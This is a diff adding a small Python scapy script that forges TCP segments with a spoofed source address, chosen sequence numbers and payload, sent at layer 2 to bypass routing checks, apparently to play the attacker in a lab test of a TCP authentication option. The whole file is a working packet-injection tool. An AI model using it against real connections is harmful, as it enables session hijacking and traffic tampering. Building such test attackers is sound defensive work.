@@ -1,0 +1,62 @@
+#!/usr/bin/python3
+"""Send one forged TCP segment out of eth0, as the attacker C does.
+
+    inject.py --dst-mac MAC --src 10.0.0.1 --dst 10.0.0.2 --sport S --dport D
+              --seq N [--ack N] [--flags PA] [--payload EVIL]
+              [--ts TSVAL,TSECR] [--zcc [--keyid K]] [--iface eth0]
+
+The frame goes out at layer 2 (scapy sendp) straight to the victim's MAC,
+so the spoofed source address never meets C's own routing or rp_filter.
+--zcc appends a zcc option (kind 253, length 16, ExID 0x7a63, key id,
+11 random tag bytes) as the last option, as a forger would.
+"""
+
+import argparse
+import logging
+import os
+
+logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
+from scapy.all import IP, TCP, Ether, Raw, conf, get_if_hwaddr, sendp  # noqa: E402
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--iface", default="eth0")
+    ap.add_argument("--dst-mac", required=True)
+    ap.add_argument("--src", required=True)
+    ap.add_argument("--dst", required=True)
+    ap.add_argument("--sport", type=int, required=True)
+    ap.add_argument("--dport", type=int, required=True)
+    ap.add_argument("--seq", type=int, required=True)
+    ap.add_argument("--ack", type=int, default=0)
+    ap.add_argument("--flags", default="PA")
+    ap.add_argument("--payload", default="")
+    ap.add_argument("--ts", help="TSVAL,TSECR: add a timestamps option")
+    ap.add_argument("--zcc", action="store_true", help="add a fake zcc option")
+    ap.add_argument("--keyid", type=int, default=0)
+    ap.add_argument("--count", type=int, default=1)
+    a = ap.parse_args()
+
+    opts = []
+    if a.ts:
+        tsval, tsecr = (int(x) for x in a.ts.split(","))
+        opts += [("NOP", None), ("NOP", None), ("Timestamp", (tsval, tsecr))]
+    if a.zcc:
+        opts.append((253, b"\x7a\x63" + bytes([a.keyid]) + os.urandom(11)))
+    tcp = TCP(sport=a.sport, dport=a.dport, seq=a.seq, ack=a.ack,
+              flags=a.flags, window=502, options=opts)
+    pkt = Ether(dst=a.dst_mac, src=get_if_hwaddr(a.iface)) / \
+        IP(src=a.src, dst=a.dst, ttl=64) / tcp
+    if a.payload:
+        pkt = pkt / Raw(a.payload.encode())
+    pkt = Ether(bytes(pkt))         # fill in lengths and checksums now
+    conf.verb = 0
+    sendp(pkt, iface=a.iface, count=a.count)
+    t = pkt[TCP]
+    print("injected %s:%d > %s:%d flags %s seq %d ack %d len %d options %s" % (
+        a.src, a.sport, a.dst, a.dport, t.sprintf("%flags%"), t.seq, t.ack,
+        len(a.payload), bytes(t)[20:t.dataofs * 4].hex() or "-"))
+
+
+if __name__ == "__main__":
+    main()
